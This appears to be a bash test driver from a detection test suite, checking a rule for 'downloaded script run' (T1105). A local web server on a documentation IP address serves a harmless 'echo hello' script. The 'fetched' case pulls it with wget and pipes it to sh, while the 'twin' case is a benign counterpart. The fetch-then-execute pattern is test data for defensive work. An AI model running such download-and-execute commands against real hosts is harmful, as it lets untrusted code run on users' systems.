#!/bin/bash
# What a download tool brought is given to a shell as its script.
#: title: Downloaded script run
#: technique: T1105
#: needs: exec
#: rules: downloaded_script_ran
#: twin: sources are fetched, and a script of the system is run
. "$DRIVERS/lib.sh"

site() {
	mkdir site
	printf '#!/bin/sh\necho hello\n' >site/install
	cp /bin/true site/tool
	(cd site && exec python3 -u -m http.server 8080 --bind 203.0.113.7 >../listening 2>&1) &
	trap 'kill %1' EXIT
	wait_for grep -q Serving listening
}

fetched() {
	site
	wget -q http://203.0.113.7:8080/install
	sh install
}

built() {
	site
	cp site/tool site/tool-1.0.tar.gz
	wget -q http://203.0.113.7:8080/tool-1.0.tar.gz
	sh site/install
}

attack() {
	export -f site
	in_own_network fetched
	did "$WORK/install"
}

twin() {
	export -f site
	in_own_network built
	did "$WORK/tool-1.0.tar.gz"
}

"$1"
